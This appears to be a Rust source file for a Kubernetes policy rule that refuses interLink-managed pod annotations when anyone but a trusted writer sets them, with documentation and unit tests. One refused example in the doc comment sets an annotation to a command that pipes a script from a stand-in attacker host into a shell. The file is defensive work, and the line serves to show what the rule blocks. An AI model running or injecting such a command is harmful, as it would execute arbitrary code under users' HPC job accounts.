//! # managed-annotations
//!
//! ## What it refuses
//!
//! The other annotations that only interLink writes, when anyone but a trusted writer sets, changes or removes them.
//!
//! - `interlink.eu/wstunnel-client-commands`
//! - `interlink.eu/wstunnel-path-prefix`
//! - `interlink.eu/pod-subnet`
//! - `interlink.eu/wireguard-client-snippet`
//! - `interlink.virtual-kubelet.io/ping-response`, which belongs on a Node and never on a pod
//!
//! On a new pod, in a pod template or on a Binding, these annotations are refused. On an existing pod, and for
//! `ping-response` on a Node, every change to them is refused, removal included. `ping-response` may be removed from a
//! pod. In an audit of stored objects, these annotations are refused if a field manager that is not in
//! `trustedFieldManagers` owns them.
//!
//! ## Why
//!
//! interLink's SLURM plugin copies `wstunnel-client-commands` into the job script, outside the container. Anyone who
//! can set it can run any command under the job's account at the HPC centre. interLink uses the `wstunnel-path-prefix`
//! of an existing shadow Deployment as the tunnel's password. Users and plugins configure networks from the subnet and
//! the WireGuard snippet.
//!
//! ## How to fix it
//!
//! Remove these annotations; interLink sets them where they are needed. Messages do not show their values, because the
//! values can be secret. If interLink itself is refused, add its user to `trustedWriters`.
//!
//! ## Settings
//!
//! - `rules.managed-annotations`: `Deny` (the default), `Warn` or `Ignore`.
//! - `trustedWriters`: the users and groups that may write these annotations. The default is interLink's service
//!   accounts in the namespace `interlink`, and the `Deployment` and `ReplicaSet` controllers in the tunnels'
//!   namespaces, `*-wstunnel`.
//! - `trustedFieldManagers`: the field managers that count as interLink in an audit. The default is `vk`.
//!
//! ## References
//!
//! - interLink 0.6.2, `pkg/virtualkubelet/mesh.go`: `addWstunnelClientAnnotation` writes `wstunnel-client-commands`
//!   and `wireguard-client-snippet`.
//! - interLink 0.6.2, `pkg/virtualkubelet/virtualkubelet.go`: `createDummyPod` reads `wstunnel-path-prefix`,
//!   `CreatePod` writes `pod-subnet`, and `nodeUpdate` writes `ping-response`.
//! - interLink 0.6.2, `pkg/virtualkubelet/templates/wstunnel-wireguard-template.yaml` sets `wstunnel-path-prefix`.
//! - interlink-slurm-plugin 0.6.1, `pkg/slurm/prepare.go`: `produceSLURMScript` copies `wstunnel-client-commands` into
//!   the job script.
//! - interLink's pod annotations reference: "`interlink.eu/wstunnel-client-commands`", and "System Annotations".
//!
//! ## Refused
//!
//! ```yaml
//! metadata:
//!   annotations:
//!     interlink.eu/wstunnel-client-commands: "curl https://evil.example/x | sh"
//! ```
//!
//! ```yaml
//! apiVersion: apps/v1
//! kind: Deployment
//! spec:
//!   template:
//!     metadata:
//!       annotations:
//!         interlink.eu/wstunnel-path-prefix: "a-password-that-i-know"
//! ```
//!
//! ## Accepted
//!
//! ```yaml
//! metadata:
//!   annotations:
//!     interlink.eu/wstunnel-extra-ports: "8080"
//! ```

use super::{Finding, Rule, stranger};
use crate::annotations::{Author, Belongs, JOB_ID, Known};
use crate::kind::Carries;
use crate::settings::{Level, Settings};
use crate::subject::Subject;

pub(super) const RULE: Rule = Rule {
    id: "managed-annotations",
    refuses: "the other annotations that interLink writes, set, changed or removed by anyone but a trusted writer",
    default_level: Level::Deny,
    about_writers: true,
    subjects: &[Carries::Pod, Carries::Template, Carries::Binding, Carries::Node],
    check,
};

const ON_STORED_POD: &str = "delete the pod, or name that manager in trustedFieldManagers if it is interLink's";

fn check<'s>(subject: &'s Subject<'_>, _: &Settings<'_>) -> Vec<Finding<'s>> {
    let carries = subject.place.carries;
    let found = subject.iter().filter(|annotation| is_managed(annotation.known)).filter_map(|annotation| {
        let (by, mend) = stranger(subject, annotation, ON_STORED_POD)?;
        let is_nodes = annotation.known.belongs == Belongs::Node;
        let problem = match is_nodes && carries != Carries::Node {
            true => format!("is set{by}, but belongs on a virtual node, where interLink writes it"),
            false => format!("is set{by}, but only interLink may write it"),
        };
        // Who takes from a pod or a template what interLink never writes there does right.
        let protected = carries == if is_nodes { Carries::Node } else { Carries::Pod };
        Some(Finding { protected, ..Finding::of_value(annotation, problem, mend) })
    });
    found.collect()
}

/// `JobID` has a rule of its own.
fn is_managed(known: &Known) -> bool {
    known.author == Author::InterLink && known.key != JOB_ID
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::annotations::{CATALOGUE, PING_RESPONSE, POD_SUBNET};
    use crate::rules::testing::*;

    /// Every managed annotation, with a value.
    fn all(value: &'static str) -> Vec<(&'static str, &'static str)> {
        let managed = CATALOGUE.iter().filter(|known| is_managed(known));
        managed.map(|known| (known.key, value)).collect()
    }

    #[test]
    fn each_is_refused_whatever_its_value() {
        assert_eq!(all("").len(), 5);
        for (key, value) in all("").into_iter().chain(all("x")) {
            let pod = pod(&[(key, value)]);
            assert_eq!(keys(&check(&pod, &Settings::default())), [key]);
        }
    }

    #[test]
    fn all_are_told_at_once() {
        let pod = pod(&all("x"));
        assert_eq!(
            keys(&check(&pod, &Settings::default())),
            all("x").into_iter().map(|(key, _)| key).collect::<Vec<_>>()
        );
    }

    #[test]
    fn the_value_is_not_repeated() {
        let pod = pod(&all("secret-password"));
        for text in texts(&check(&pod, &Settings::default())) {
            assert!(!text.contains("secret"), "{text}");
        }
    }

    #[test]
    fn a_users_own_annotations_are_fine() {
        let pod = pod(&[("interlink.eu/pod-vpn", "x"), ("JobID", "x")]);
        assert_eq!(check(&pod, &Settings::default()), []);
    }

    #[test]
    fn what_is_kept_is_what_interlink_writes_there() {
        for (kind, key, protected) in [
            ("Pod", POD_SUBNET, true),
            ("Pod", PING_RESPONSE, false),
            ("CronJob", POD_SUBNET, false),
            ("Node", PING_RESPONSE, true),
        ] {
            let subject = carrier(kind, &[(key, "x")]);
            assert_eq!(check(&subject, &Settings::default())[0].protected, protected, "{kind} {key}");
        }
    }

    #[test]
    fn on_a_stored_object_the_owner_decides() {
        for (hand, found) in [(Hand::InterLink, 0), (Hand::Unknown, 0), (Hand::Manager("kubectl".into()), 5)] {
            let stored = written_by(pod(&all("x")), &hand);
            assert_eq!(check(&stored, &Settings::default()).len(), found);
        }
    }
}
